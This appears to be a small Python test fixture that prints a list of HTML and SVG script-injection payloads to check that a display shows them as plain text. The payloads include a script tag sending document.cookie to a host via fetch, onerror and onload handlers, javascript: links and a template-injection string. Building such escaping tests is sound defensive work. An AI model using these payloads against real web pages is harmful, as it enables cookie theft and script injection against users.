# Prints and returns HTML and SVG that run scripts where they are shown as such: they are text, and stay it.
# ends: completed
# so that: result["printed"] == stdout and result[stdout] == [stdout]
pieces = [
    "<script>fetch('http://127.0.0.1/'+document.cookie)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "</pre></div><iframe src=javascript:alert(1)>", "'\"><body onload=alert(1)>", "{{constructor.constructor('alert(1)')()}}",
    "<a href=\"javascript:alert(1)\">x</a>", "]]><x/><!--", "&lt;b&gt;", "<plaintext>",
]
text = "\n".join(pieces)
print(text, end="")
return {"printed": text, text: [text]}
